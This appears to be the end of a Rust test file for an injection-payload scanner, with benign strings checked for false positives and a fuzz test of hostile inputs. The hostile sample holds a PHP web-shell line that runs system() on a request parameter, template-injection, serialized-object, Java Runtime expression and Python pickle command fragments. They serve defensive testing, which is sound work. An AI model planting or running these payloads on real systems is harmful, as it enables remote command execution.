            b"Node.js & Express: {fast} (2nd ed.)",
            b"http://example.com/search?q=a+b&page=2#top",
            b"Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            b"the system (it works)",
            b"evaluate the exec summary",
            b"operating system",
            b"<?xml version=\"1.0\"?><a>b</a>",
            b"user@example.com",
            b"name@host.example.org",
            b"http://example.com/a?b=c",
            b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)",
            b"Java 8 (java.lang.String)",
            b"T(1) and T(2)",
            b"a:2 then b:3",
            b"O:Neil",
            b"c:\\windows\\system32",
            b"cosmos\nsystem",
            b"JSESSIONID=AD0D478F3BC9FAFB36087C28558B39D8",
            b":-) ;-)",
            b"phpinfo page",
            b"reuse an uninitialized child_process structure",
            b"the word \"system\", he said",
            b"(#1 = best)",
            b"a == b (#x == y)",
            b"type: com.example.Foo",
            b"$5 ('cheap')",
            b"$(document).ready(function() {})",
            b"the 'word' (in quotes)",
            b"{\"roles\": [\"user\", \"system\", \"admin\"]}",
            b"thread::spawn(x.method())",
            b"std::env::current_dir() or getcwd()",
        ];
        test_support::assert_passes_all(code, cases);
    }

    #[test]
    fn hostile_inputs_do_not_panic() {
        test_support::assert_total(
            code,
            Hostile {
                fixed: vec![
                    b"@a.b".repeat(30_000),
                    b"T(a.".repeat(30_000),
                    b"O:1:\"".repeat(30_000),
                    b"<? ".repeat(30_000),
                    b"c".repeat(100_000),
                    b"system(".repeat(10_000),
                    b"{${".repeat(30_000),
                ],
                // Every truncation of a payload that exercises most of the scanner.
                sample: b"<?php system($_GET['c']); ?>{${phpinfo()}}O:8:\"stdClass\":1:{s:1:\"a\";}T(java.lang.Runtime)@java.lang.Runtime@getRuntime()cos\nsystem\n(S'id'",
                alphabet: b"<?=$_{}()@.T:Oa\"'`\\nsystemcos;1",
                seed: 0x1234_5678_9ABC_DEF1,
                count: 3000,
                max_len: 40,
            },
        );
    }
}
